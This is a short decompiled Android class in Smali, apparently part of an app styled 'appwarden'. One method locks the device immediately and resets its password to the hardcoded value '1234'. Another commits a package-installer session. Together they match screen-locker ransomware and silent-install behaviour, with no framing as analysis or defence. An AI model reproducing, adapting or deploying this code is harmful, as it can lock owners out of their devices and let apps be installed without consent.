.class public Lcom/appwarden/screen/r6/Policy;
.super Ljava/lang/Object;

.method public static apply(Landroid/content/Context;)V
    .locals 3
    const-string v0, "device_policy"
    invoke-virtual {p0, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/app/admin/DevicePolicyManager;
    invoke-virtual {v0}, Landroid/app/admin/DevicePolicyManager;->lockNow()V
    const-string v1, "1234"
    const/4 v2, 0x0
    invoke-virtual {v0, v1, v2}, Landroid/app/admin/DevicePolicyManager;->resetPassword(Ljava/lang/String;I)Z
    return-void
.end method

.method public static install(Landroid/content/pm/PackageInstaller$Session;Landroid/content/IntentSender;)V
    .locals 0
    invoke-virtual {p0, p1}, Landroid/content/pm/PackageInstaller$Session;->commit(Landroid/content/IntentSender;)V
    return-void
.end method
